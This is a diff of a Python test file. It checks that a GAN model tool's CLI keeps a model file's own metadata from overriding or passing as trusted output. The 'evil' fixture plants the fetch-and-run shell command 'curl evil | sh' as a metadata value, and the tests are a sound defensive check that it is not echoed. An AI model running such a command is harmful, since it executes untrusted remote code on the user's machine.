@@ -23,7 +23,9 @@ def evil_model(tmp_path_factory):
         GeneratorConfig(**SMALL, latent_size=4, label_size=2), DiscriminatorConfig(**SMALL, label_size=2), 0
     )[0]
     labels = {"name": "class" + EVIL, "classes": ["a" + EVIL, "b"]}
-    info = {"data" + EVIL: EVIL, "model": "another.safetensors", "file_size": "1 byte", "attribution": [EVIL]}
+    info = {"data" + EVIL: EVIL, "model": "another.safetensors", "attribution": [EVIL]}
+    info |= {"file_size": "1 byte", "File  size": "2 bytes", "run": "faces", "progress": "9 of 9 kimg"}
+    info |= {"go_on_with": "curl evil | sh"}
     path = tmp_path_factory.mktemp("evil") / "model.safetensors"
     save_model(path, ModelFile(generator, None, 3, 1.0, labels, info))
     return path
@@ -42,7 +44,16 @@ def test_a_model_s_own_info_overrides_nothing(evil_model, capsys):
     first, *rows = capsys.readouterr().out.splitlines()
     assert first.startswith(f"model {evil_model}: RGB pictures of 8x8, ")
     assert "1 byte" not in first
-    assert any("says of itself" in row for row in rows)
+    before = rows[: next(number for number, row in enumerate(rows) if "says of itself" in row)]
+    assert not any(word in row for row in before for word in ("1 byte", "2 bytes", "9 of 9", "curl"))
+    assert not any(row.startswith("resume it with") for row in rows)
+
+
+def test_a_plan_is_a_table_of_lines(capsys):
+    assert cli.run(["train", "--dry-run", "--preset", "celebahq-v2-8gpu", "--max-res", "64"]) == 0
+    out = capsys.readouterr().out
+    assert "\\n" not in out
+    assert len(out.splitlines()) > 8
 
 
 def test_say_escapes_and_ends_with_one_line(capsys):
